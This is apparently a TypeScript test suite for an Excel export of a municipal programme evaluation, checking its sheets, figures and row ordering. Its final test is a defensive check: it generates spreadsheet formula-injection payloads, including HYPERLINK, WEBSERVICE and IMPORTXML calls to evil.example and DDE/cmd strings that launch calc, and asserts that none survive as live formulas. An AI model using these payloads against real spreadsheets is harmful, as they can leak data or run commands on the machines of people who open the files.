import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { DEMO_PROGRAMME } from '../../../bot/demo/programme.ts';
import { excelOf } from '../../../bot/evaluation/excel.ts';
import type { EvaluationRow } from '../../../bot/evaluation/rows.ts';
import { inUnit } from '../../../bot/evaluation/sheet-cells.ts';
import { methodSheet, MOST_SOURCES } from '../../../bot/evaluation/sheets.ts';
import { ALL_IDS, citizensOf, definitionOf, resultOf } from '../../../bot/evaluation/shown.ts';
import type { Evaluation } from '../../../domain/evaluation/evaluation.ts';
import { FIGURE_IDS } from '../../../domain/evaluation/figures/index.ts';
import { HOSTILE } from '../../support/hostile.ts';
import { EXAMPLE, inputOf } from './example.ts';
import type { Cell, Sheet } from './read-sheet.ts';
import { allXml, readBook } from './read-sheet.ts';

const ROW: EvaluationRow = {
  appliedOn: '2026-01-05',
  answer: 'placed',
  decidedOn: '2026-01-20',
  startedOn: '2026-02-01',
  mainFrom: '2026-08-01',
  endedOn: '2026-12-20',
  asPlanned: false,
  pauseDays: 12,
  activities: 31,
  attended: 28,
  granted: 20_000,
  paidOut: 18_500,
  paidBack: 1_250,
  atDischarge: 'self-supporting',
};

const rows = (count: number): readonly EvaluationRow[] =>
  Array.from({ length: count }, (_, at) => ({
    ...ROW,
    activities: at,
    appliedOn: `2026-0${1 + (at % 9)}-05`,
  }));

const bookOf = async (evaluation: Evaluation, all: readonly EvaluationRow[] = []) =>
  readBook(await excelOf(inputOf(evaluation), all));

const sheet = (book: ReadonlyMap<string, Sheet>, name: string): Sheet => {
  const found = book.get(name);
  assert.ok(found, name);
  return found;
};

const textAt = ({ cells }: Sheet, place: string): string | undefined => {
  const cell: Cell | undefined = cells.get(place);
  return cell && 'text' in cell ? cell.text : undefined;
};

const numberAt = ({ cells }: Sheet, place: string): number | undefined => {
  const cell: Cell | undefined = cells.get(place);
  return cell && 'number' in cell ? cell.number : undefined;
};

/** 5 January 2026 is day 46027 of Excel's calendar, which counts 1 January 1900 as 1. */
const FIFTH_OF_JANUARY = 46_027;

/** What spreadsheets take for a formula, a link or a command, when it is not text. */
const BEGINNINGS = ['=', '+', '-', '@', '\t=', '\r=', ' =', '＝', '"=', "'=", '=+', '@@', '|', '%0A='];
const ENDINGS = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://evil.example","klik")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("http://evil.example")',
  'IMPORTXML("http://evil.example","//a")',
  'DDE("cmd";"/C calc";"x")',
  '<f>1+1</f>',
  '</t></si><f>1</f>',
  ']]><f>1</f>',
];

/** A cell that is worked out, and whatever is fetched or run. */
const FORMULA = /<(?:\w+:)?f[ >/]|<hyperlink|externalLink|ddeLink/;

const PAYLOADS: readonly string[] = Array.from(
  { length: 1_000 },
  (_, at) =>
    `${BEGINNINGS[at % BEGINNINGS.length]}${ENDINGS[Math.floor(at / BEGINNINGS.length) % ENDINGS.length]}${at}`,
);

const order = async (given: readonly EvaluationRow[]): Promise<readonly (number | undefined)[]> => {
  const found = sheet(await bookOf(EXAMPLE, given), 'Rækker');
  return given.map((_, at) => numberAt(found, `J${at + 2}`));
};

const named = (name: string) => ({ ...inputOf(EXAMPLE), programme: { ...DEMO_PROGRAMME, name } });

describe('The Excel file of an evaluation', () => {
  it('has every figure with its value as a number, its unit, its citizens and its definition', async () => {
    const figures = sheet(await bookOf(EXAMPLE), 'Tal');
    const found = new Map(
      Array.from({ length: ALL_IDS.length }, (_, at) => [textAt(figures, `A${at + 2}`), at + 2]),
    );
    for (const id of ALL_IDS) {
      const line = found.get(id);
      assert.ok(line !== undefined, id);
      const { label, means, unit } = definitionOf(id);
      const result = resultOf(EXAMPLE, id);
      if (result.kind === 'value')
        assert.equal(numberAt(figures, `C${line}`), inUnit(result.value, unit), id);
      else assert.match(textAt(figures, `C${line}`) ?? '', /^(?:ingen|intet) /, id);
      assert.equal(textAt(figures, `B${line}`), label, id);
      assert.equal(numberAt(figures, `E${line}`), citizensOf(EXAMPLE, id), id);
      assert.equal(textAt(figures, `F${line}`), EXAMPLE.open.has(id) ? 'ja' : 'nej', id);
      assert.equal(textAt(figures, `H${line}`), means, id);
    }
    assert.equal(found.size, ALL_IDS.length);
  });

  it('has a row for each application, with real days and numbers and nothing to find a case by', async () => {
    const sheetOfRows = sheet(await bookOf(EXAMPLE, [ROW]), 'Rækker');
    assert.equal(numberAt(sheetOfRows, 'A2'), 1);
    assert.equal(numberAt(sheetOfRows, 'B2'), FIFTH_OF_JANUARY);
    assert.equal(textAt(sheetOfRows, 'C2'), 'fik en plads');
    assert.deepEqual(
      ['I2', 'J2', 'K2', 'L2', 'M2', 'N2'].map((place) => numberAt(sheetOfRows, place)),
      [12, 31, 28, 20_000, 18_500, 1_250],
    );
    assert.equal(textAt(sheetOfRows, 'O2'), 'selvforsørgende');
    assert.equal(sheetOfRows.cells.has('P2'), false);
    const head = [...sheetOfRows.cells].filter(([place]) => /^[A-Z]+1$/.test(place));
    for (const [, cell] of head)
      assert.doesNotMatch('text' in cell ? cell.text : '', /sag|navn|cpr|cvr|reference|ydelse|årsag|grund/i);
  });

  it('has the rows in one order, whatever order the cases came in', async () => {
    const all = rows(40);
    const first = await order(all);
    assert.deepEqual(await order(all.toReversed()), first);
    assert.notDeepEqual(
      first,
      all.map(({ activities }) => activities),
    );
    assert.notDeepEqual(
      first.toSorted((one, other) => (one ?? 0) - (other ?? 0)),
      first,
    );
  });

  it('has the events behind each figure, and says where the rest are', async () => {
    const many = Array.from({ length: MOST_SOURCES + 17 }, (_, at) => at * 3 + 1);
    const figures = { ...EXAMPLE.figures, talks: { ...EXAMPLE.figures.talks, entries: many } };
    const sources = sheet(await bookOf({ ...EXAMPLE, figures }), 'Kilder');
    const found = new Map<string, (number | string | undefined)[]>();
    for (const [place, cell] of sources.cells)
      if (/^A(?!1$)/.test(place) && 'text' in cell) {
        const line = place.slice(1);
        const what = numberAt(sources, `B${line}`) ?? textAt(sources, `C${line}`);
        found.set(cell.text, [...(found.get(cell.text) ?? []), what]);
      }
    for (const id of FIGURE_IDS)
      if (id !== 'talks') assert.deepEqual(found.get(id) ?? [], [...EXAMPLE.figures[id].entries], id);
    assert.deepEqual(found.get('talks'), [
      ...many.slice(0, MOST_SOURCES),
      'Resten (17) står i hændelsesloggen.',
    ]);
  });

  it('keeps its heads in sight, and says how it was counted', async () => {
    const book = await bookOf(EXAMPLE, [ROW]);
    assert.deepEqual([...book.keys()], ['Tal', 'Rækker', 'Kilder', 'Metode']);
    for (const { xml } of book.values()) assert.match(xml, /<pane ySplit="1"[^>]*state="frozen"/);
    const method = [...sheet(book, 'Metode').cells.values()].map((cell) => ('text' in cell ? cell.text : ''));
    assert.equal(method[0], 'Fortroligt – lukket punkt (forvaltningsloven § 27)');
    assert.ok(method.includes('Talt op til hændelse nr. 4.711 den 12. januar 2027.'));
  });

  it('does nothing when opened, whatever a programme is called', async () => {
    const { default: write } = await import('write-excel-file/node');
    // The name is the one text of people in the file: all its lines, for each name, below each other.
    const names = [...PAYLOADS, ...HOSTILE];
    const data = names.flatMap((name) => methodSheet(named(name)).data);
    const bytes = await write([{ ...methodSheet(named('')), data }]).toBuffer();
    assert.doesNotMatch(allXml(bytes), FORMULA);
    const lines = data.length / names.length;
    const method = sheet(readBook(bytes), 'Metode');
    for (const [at, name] of PAYLOADS.entries())
      assert.equal(textAt(method, `A${at * lines + 2}`), `Evaluering af ${name}.`);
    for (const name of PAYLOADS.slice(0, 5)) {
      const whole = await excelOf(named(name), rows(5));
      assert.doesNotMatch(allXml(whole), FORMULA);
      assert.equal(textAt(sheet(readBook(whole), 'Metode'), 'A2'), `Evaluering af ${name}.`);
    }
  });
});
